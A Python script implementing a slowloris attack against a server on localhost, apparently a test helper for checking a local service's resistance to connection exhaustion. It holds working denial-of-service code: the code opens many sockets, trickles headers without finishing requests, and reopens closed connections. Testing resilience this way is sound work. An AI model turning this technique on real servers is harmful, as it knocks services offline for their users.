# SPDX-License-Identifier: Apache-2.0
"""A slowloris against 127.0.0.1:PORT: COUNT connections, each sending a
request line and then one header line every INTERVAL seconds, never
finishing the request, and reopened as soon as the server closes it.
Prints "ready" once all are open, stops on SIGTERM or by itself after
DURATION seconds, and then prints how many connections it opened in all.

usage: slowloris.py PORT COUNT INTERVAL DURATION"""

import select
import signal
import socket
import sys
import time

stopping = False


def stop(signum, frame):
    global stopping
    stopping = True


def open_one(port):
    s = socket.socket()
    s.settimeout(1.0)
    try:
        s.connect(("127.0.0.1", port))
        s.sendall(b"GET /status HTTP/1.1\r\nHost: agent\r\n")
    except OSError:
        s.close()
        return None
    return s


def main():
    port, count = int(sys.argv[1]), int(sys.argv[2])
    interval, duration = float(sys.argv[3]), float(sys.argv[4])
    signal.signal(signal.SIGTERM, stop)
    end = time.monotonic() + duration
    socks = [None] * count
    opened = 0
    ready = False
    while not stopping and time.monotonic() < end:
        started = time.monotonic()
        # A readable socket has been closed or answered (a 408): reopen.
        live = [s for s in socks if s is not None]
        readable = set(select.select(live, [], [], 0)[0]) if live else set()
        for i, s in enumerate(socks):
            if s is not None and s in readable:
                s.close()
                socks[i] = s = None
            if s is None:
                socks[i] = open_one(port)
                opened += socks[i] is not None
                continue
            try:
                s.send(b"X-Slow: 1\r\n")
            except OSError:
                s.close()
                socks[i] = None
        if not ready:
            print("ready", flush=True)
            ready = True
        # Pacing the trickle, as a slowloris does.
        time.sleep(max(0.0, interval - (time.monotonic() - started)))
    for s in socks:
        if s is not None:
            s.close()
    print(f"opened {opened}", flush=True)


if __name__ == "__main__":
    main()
